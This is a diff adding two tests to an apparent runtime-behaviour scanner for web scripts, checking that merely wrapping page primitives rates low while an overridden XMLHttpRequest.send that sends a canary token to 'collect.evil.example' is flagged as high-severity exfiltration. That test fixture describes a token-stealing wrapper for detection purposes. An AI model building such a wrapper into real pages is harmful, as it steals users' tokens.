@@ -171,3 +171,23 @@ def test_the_host_token_read_counts_even_with_storage_declared() -> None:
     for event in (read, idb):
         rules = {f.rule_id for f in trace_findings(_trace(event), Capabilities(storage=True))}
         assert rules == {"runtime-storage-token-read"}
+
+
+def test_wrapping_page_primitives_alone_is_recorded_once_and_low() -> None:
+    """zone.js and error monitors wrap timers, fetch and listeners; wrapping is not sending."""
+    names = ["fetch", "XMLHttpRequest.send", "setTimeout", "addEventListener"]
+    events = [{"type": "override", "name": n} for n in names]
+    found = [
+        f for f in trace_findings(_trace(*events), Capabilities()) if f.severity > Severity.INFO
+    ]
+    assert [(f.rule_id, f.severity) for f in found] == [("runtime-global-override", Severity.LOW)]
+
+
+def test_a_wrapper_that_sends_page_data_away_is_still_exfiltration() -> None:
+    token = CANARIES[next(iter(CANARIES))]
+    trace = _trace(
+        {"type": "override", "name": "XMLHttpRequest.send"},
+        _req("https://collect.evil.example/c", token),
+    )
+    found = trace_findings(trace, Capabilities())
+    assert any(f.category is Category.EXFILTRATION and f.severity >= Severity.HIGH for f in found)
